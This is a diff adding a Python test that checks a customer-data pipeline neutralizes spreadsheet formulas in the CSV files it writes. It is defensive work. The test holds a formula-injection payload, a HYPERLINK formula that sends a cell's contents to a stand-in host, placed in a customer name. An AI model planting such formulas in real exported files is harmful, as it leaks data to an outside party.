@@ -37,7 +37,7 @@ from pipelines.warehouse import ops
 from pipelines.warehouse.source import DataSource, record_source
 from sources.errors import ExitCode, UsageError
 from sources.files import encoding
-from sources.files.formulas import people_rows
+from sources.files.formulas import neutralize, people_rows
 from sources.kinds import KindName
 from tests.pipelines.bridge import Bridge, bridge, command, pulled
 
@@ -629,6 +629,23 @@ def test_a_plan_rests_on_the_last_walk_that_was_not_held_back(unread: Bridge) ->
     assert (made.manifest.read.run_id, made.manifest.read.verdict, made.manifest.read.rows) == (
         first.run_id, "complete", 6,
     )  # fmt: skip
+
+
+def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(unread: Bridge) -> None:
+    """A name that somebody typed into the platform, and one in the file."""
+    formula = '=HYPERLINK("http://x.test/?"&A1)'
+    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
+    unread.pull("customers")
+    quoted = formula.replace('"', '""')
+    made = customers(f'E1;Ana;e1@x.es;;\nE1;"{quoted}";other@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\n')
+    alone = customers("E1;Ana;e1@x.es;;\n")
+    (reported, *_) = people_rows(alone.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
+    assert f"'{formula}" in reported["platform_value"]
+    for folder in (made.folder, alone.folder):
+        for path in folder.glob("*.csv"):
+            with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline="") as file:
+                for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
+                    assert [cell for cell in row if neutralize(cell) != cell] == [], path
 
 
 def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platform: Bridge) -> None:
